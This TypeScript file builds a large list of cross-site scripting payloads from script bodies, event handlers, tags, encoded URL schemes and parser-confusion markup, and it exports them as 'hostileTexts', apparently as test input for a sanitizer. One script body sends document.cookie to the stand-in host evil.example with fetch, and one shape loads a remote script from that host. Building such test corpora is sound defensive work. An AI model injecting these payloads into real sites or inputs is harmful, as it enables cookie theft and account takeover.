const scripts = ['alert(1)', 'window.hacked=1', 'top.hacked(document.cookie)', 'fetch("https://evil.example/?"+document.cookie)'];

const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbeforeinput', 'onscroll'];
const tags = ['img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video><source', 'marquee', 'object data=x', 'select autofocus', 'math', 'a href=#'];

const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&#10;script:', '\u0001javascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'file:///', 'javascript&colon;', '&#106;avascript:'];

const shapes: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<SCRIPT SRC="https://evil.example/x.js">${script}</SCRIPT >`,
  (script) => `"><script>${script}</script>`,
  (script) => `'"--></style></script><script>${script}</script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><style><img src=x onerror="${script}"></style></svg>`,
  (script) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<template><img src=x onerror=${script}></template>`,
  (script) => `<textarea></textarea><img src=x onerror=${script}>`,
  (script) => `<xmp><img src=x onerror=${script}></xmp>`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[<img src=x onerror=${script}>]]>`,
  (script) => `<link rel=stylesheet href="javascript:${script}">`,
  (script) => `<meta http-equiv=refresh content="0;javascript:${script}">`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `<form action="javascript:${script}"><button formaction="javascript:${script}">x</button></form>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<p style="background:url(javascript:${script});behavior:url(x);-moz-binding:url(x)">x</p>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
  (script) => `<<img src=x onerror=${script}>//<`,
  (script) => `<img src=x:x onerror&#61;${script}>`,
  (script) => `\u202e<img src=x onerror=${script}>\u0000`,
  (script) => `<a id=location name=cookie href="javascript:${script}">x</a><form id=attributes><input name=childNodes></form>`
];

/** Texts that would run something where they are taken for markup: several hundred, in the ways that are known. */
export const hostileTexts: readonly string[] = scripts.flatMap((script) => [
  ...shapes.map((shape) => shape(script)),
  ...events.flatMap((event) => tags.slice(0, script === 'alert(1)' ? tags.length : 1).map((tag) => `<${tag} ${event}=${script}>`)),
  ...schemes.flatMap((scheme) => [`<a href="${scheme}${script}">x</a>`, `[x](${scheme}${script})`, `![x](${scheme}${script})`, `<${scheme}${script}>`])
]);
